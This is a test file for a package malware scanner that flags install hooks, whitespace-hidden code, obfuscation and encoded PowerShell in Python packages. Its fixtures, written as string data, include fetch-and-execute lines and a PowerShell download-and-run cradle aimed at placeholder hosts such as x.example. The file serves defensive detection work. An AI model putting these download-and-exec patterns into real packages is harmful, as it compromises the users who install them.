import assert from 'node:assert/strict';
import { test } from 'node:test';
import { record } from '../detect/_test-helpers.ts';
import { EMPTY_ALLOWLIST } from '../detect/allowlist.ts';
import { evaluateRecord } from '../detect/evaluate-record.ts';
import { scanStaticSignals } from './scan-static-signals.ts';

function rules(path: string, text: string): string[] {
  return scanStaticSignals([{ path, text }])
    .map((f) => f.rule)
    .sort();
}

function scoreOf(path: string, text: string): { level: string; score: number } {
  return evaluateRecord(record({}), {
    allowlist: EMPTY_ALLOWLIST,
    staticFindings: scanStaticSignals([{ path, text }]),
  });
}

const BENIGN_NATIVE = `import os
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext

here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "README.md")) as f:
    long_description = f.read()

class BuildExt(build_ext):
    def build_extensions(self):
        self.compiler.compiler_so.append("-O3")
        super().build_extensions()

setup(
    name="fastthing",
    version="1.2.3",
    url="https://github.com/example/fastthing",
    long_description=long_description,
    cmdclass={"build_ext": BuildExt},
    ext_modules=[Extension("fastthing._speed", ["src/speed.c"])],
)
`;

test('a benign setup.py with cmdclass build_ext scores low and stays clean', () => {
  assert.deepEqual(rules('fastthing-1.2.3/setup.py', BENIGN_NATIVE), ['static.install-hook']);
  assert.equal(scanStaticSignals([{ path: 'setup.py', text: BENIGN_NATIVE }])[0]?.severity, 'low');
  assert.equal(scoreOf('setup.py', BENIGN_NATIVE).level, 'clean');
});

test('exec of base64-decoded data is high, with file:line evidence', () => {
  const text =
    'import base64\nfrom setuptools import setup\nexec(base64.b64decode("cHJpbnQoMSk="))\nsetup(name="x")\n';
  const findings = scanStaticSignals([{ path: 'x-1/setup.py', text }]);
  const decoded = findings.find((f) => f.rule === 'static.exec-decoded');
  assert.equal(decoded?.severity, 'high');
  assert.equal(decoded?.evidence[0]?.pointer, 'x-1/setup.py:3');
  assert.match(decoded?.evidence[0]?.text ?? '', /exec\(base64\.b64decode/);
  assert.ok(findings.some((f) => f.rule === 'static.setup-code'));
});

test('exec of downloaded code is critical (malicious on its own); exec(open(version).read()) is not', () => {
  const fetched = 'import urllib.request\nexec(urllib.request.urlopen("http://x.example/p").read())\n';
  assert.ok(rules('pkg/__init__.py', fetched).includes('static.exec-downloaded'));
  assert.equal(scoreOf('pkg/__init__.py', fetched).level, 'malicious');
  const version = 'exec(open("pkg/_version.py").read())\nsetup(name="x")\n';
  assert.deepEqual(rules('setup.py', version), []);
});

test('code hidden after a long run of whitespace is found and shown', () => {
  const text = `import os${' '.repeat(200)};exec(__import__("zlib").decompress(b"x"))\n`;
  const findings = scanStaticSignals([{ path: 'pkg/__init__.py', text }]);
  const hidden = findings.find((f) => f.rule === 'static.whitespace-hidden');
  assert.ok(hidden);
  assert.match(hidden.evidence[0]?.text ?? '', /hidden: ;exec/);
  // Ordinary indentation and alignment do not count.
  assert.deepEqual(rules('pkg/x.py', 'def f():\n        return 1  # aligned comment\n'), []);
});

test('the demo-style obfuscation (chr arithmetic, getattr(__import__), integer array) is flagged', () => {
  const numbers = Array.from({ length: 150 }, (_, i) => String(150 + i)).join(', ');
  const text = [
    'from setuptools import setup',
    `_q = [${numbers}]`,
    '_w = lambda s: "".join(chr((v - 17) // 3) for v in s)',
    '_x = getattr(__import__(_w([311, 368])), _w([320, 377]))',
    '_x(_w(_q))',
    'setup(name="x")',
  ].join('\n');
  const found = rules('setup.py', text);
  for (const rule of ['static.encoded-blob', 'static.obfuscated-call', 'static.setup-code'])
    assert.ok(found.includes(rule), rule);
  assert.notEqual(scoreOf('setup.py', text).level, 'clean');
});

test('powershell -EncodedCommand, IPs and URLs in setup code', () => {
  const text =
    'import os\nos.system("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")\nHOST = "45.13.2.9"\nU = "http://x.example/a"\nsetup(url="https://home.example")\n';
  const findings = scanStaticSignals([{ path: 'setup.py', text }]);
  assert.equal(findings.find((f) => f.rule === 'static.powershell-encoded')?.severity, 'high');
  const urls = findings.find((f) => f.rule === 'static.url-in-setup');
  assert.equal(urls?.severity, 'medium');
  assert.deepEqual(
    urls?.evidence.map((e) => e.pointer),
    ['setup.py:3', 'setup.py:4'],
  );
});

test('a long base64 blob is found; a long identifier-free prose string is not a blob', () => {
  const blob = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 37) % 256)).toString('base64');
  assert.ok(rules('pkg/__init__.py', `DATA = "${blob}"\n`).includes('static.encoded-blob'));
  assert.deepEqual(rules('pkg/__init__.py', `DOC = "${'lorem ipsum dolor sit amet '.repeat(10)}"\n`), []);
});

// --- false positives of the popular projects (docs/BENCHMARKS.md, "Evaluation") -----------------

test('exec-downloaded needs fetched data to reach the exec: a socket server evaluating its input line does not count', () => {
  // execnet/script/socketserver.py: "socket" only in a string near an eval of a local variable.
  const execnet = [
    'def exec_from_one_connection(serversock):',
    '    clientsock, address = serversock.accept()',
    '    clientfile = clientsock.makefile("rb")',
    '    source = clientfile.readline().rstrip()',
    '    clientfile.close()',
    '    g = {"clientsock": clientsock, "address": address}',
    '    source = eval(source)',
    '    if source:',
    '        co = compile(source + "\\n", "<socket server>", "exec")',
    '        exec(co, g)',
    '',
  ].join('\n');
  assert.ok(!rules('execnet/script/socketserver.py', execnet).includes('static.exec-downloaded'));
  assert.notEqual(scoreOf('execnet/script/socketserver.py', execnet).level, 'malicious');
  // A name assigned from a fetch two statements earlier, CRLF line ends: still critical.
  const indirect =
    'import base64, urllib.request\r\nurl = "http://x.example/p"\r\nbody = urllib.request.urlopen(url).read()\r\ncode = body.decode()\r\nexec(base64.b64decode(code))\r\n';
  assert.ok(rules('setup.py', indirect).includes('static.exec-downloaded'));
  const viaResponse =
    'r = requests.get("http://x.example/c")\ncode = r.json().get("code")\nif code:\n    exec(code)\n';
  assert.ok(rules('pkg/post_install.py', viaResponse).includes('static.exec-downloaded'));
});

test('powershell-encoded needs an encoded payload after the flag, not a bare mention', () => {
  // azure-identity: the command is encoded at run time from a readable script.
  const azure = [
    'encoded_script = base64.b64encode(script.encode("utf-16-le")).decode()',
    'command = "pwsh -NoProfile -NonInteractive -EncodedCommand " + encoded_script',
    '',
  ].join('\n');
  assert.ok(
    !rules('azure/identity/_credentials/azure_powershell.py', azure).includes('static.powershell-encoded'),
  );
  const literal = `os.system("powershell -WindowStyle Hidden -EncodedCommand ${'SQBuAHYAbwBrAGUA'.repeat(4)}")\n`;
  assert.ok(rules('setup.py', literal).includes('static.powershell-encoded'));
  const viaName = `command = '${'JABzAG8AdQByAGMAZQAgAD0A'.repeat(3)}'\nsubprocess.run(['powershell.exe', '-EncodedCommand', command])\n`;
  assert.ok(rules('pkg/x.py', viaName).includes('static.powershell-encoded'));
});

test('powershell-cradle: download and run in PowerShell text is high in setup.py', () => {
  const cradle =
    'import os\nos.system("powershell -w hidden -c \\"iwr -useb http://x.example/a.exe -OutFile a.exe; Start-Process a.exe\\"")\n';
  const found = scanStaticSignals([{ path: 'x-1/setup.py', text: cradle }]).find(
    (f) => f.rule === 'static.powershell-cradle',
  );
  assert.equal(found?.severity, 'high');
  assert.deepEqual(rules('pkg/x.py', 'Invoke-WebRequest -Uri $u -OutFile $o\n'), []);
  // pygments' PowerShell lexer: keywords, no URL.
  const lexer = "    'h history icm iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill lp '\n";
  assert.deepEqual(rules('pygments/lexers/shell.py', lexer), []);
  assert.deepEqual(rules('setup.py', `KEYWORDS = (\n${lexer})\n`), []);
});

test('whitespace-hidden ignores docstrings, comments, string data and non-code after the run', () => {
  const docTable = `def f():\n    """\n    | a |${' '.repeat(120)}| b |\n    +---+${' '.repeat(120)}*\n    """\n`;
  assert.deepEqual(rules('nltk/tag/api.py', docTable), []);
  const comment = `x = 1  #${' '.repeat(120)}y = 2\n`;
  assert.deepEqual(rules('pkg/a.py', comment), []);
  const data = `TABLE = "a${' '.repeat(130)}b = c(d)"\n`;
  assert.ok(!rules('pkg/a.py', data).includes('static.whitespace-hidden'));
  const punctuation = `x = [1,${' '.repeat(130)}*rest]\n`;
  assert.ok(!rules('pkg/a.py', punctuation).includes('static.whitespace-hidden'));
  // A short run is alignment, not hiding.
  assert.deepEqual(rules('pkg/a.py', `import os${' '.repeat(85)};os.system("id")\n`), []);
});

test('obfuscated-call only counts in setup.py, .pth and top-level __init__.py, never in tests or docs', () => {
  const getattrImport = 'f = getattr(__import__(mod), name)\n';
  assert.deepEqual(rules('jinja2-3.1.6/src/jinja2/utils.py', getattrImport), []);
  assert.deepEqual(rules('ruamel/yaml/reader.py', "s = ''.join(map(chr, codes))\n"), []);
  assert.deepEqual(rules('psycopg2-2.9.13/tests/test_quote.py', "s = ''.join(map(chr, codes))\n"), []);
  assert.ok(rules('x-1.0/setup.py', getattrImport).includes('static.obfuscated-call'));
  assert.deepEqual(rules('x-1.0/src/x/__init__.py', getattrImport), ['static.obfuscated-call']);
  assert.deepEqual(rules('x/__init__.py', getattrImport), ['static.obfuscated-call']);
});

test('long-string and encoded-blob leave out regular-expression character classes and embedded images', () => {
  const identifierClass = `pattern = re.compile("[\\\\w${'\u00b7\u0300-\u036f\u0387\u0483-\u0487'.repeat(60)}]+")\n`;
  assert.deepEqual(rules('jinja2/_identifier.py', identifierClass), []);
  // pygments/unistring.py: Unicode range tables written with escapes, without brackets.
  const ranges = `Cn = '${'\\u0378-\\u0379\\u0380-\\u0383\\u038b'.repeat(30)}'\n`;
  assert.deepEqual(rules('pygments/unistring.py', ranges), []);
  const gif = `IMG = "R0lGODlhMAAiAPcAMf${'A9b+7Zq/'.repeat(200)}"\n`;
  assert.deepEqual(rules('nltk/app/nemo_app.py', gif), []);
  // The same length of base64 that is not an image still counts.
  const blob = `P = "QkFTRTY0${'A9b+7Zq/'.repeat(200)}"\n`;
  assert.deepEqual(rules('pkg/payload.py', blob), ['static.encoded-blob', 'static.long-string']);
});
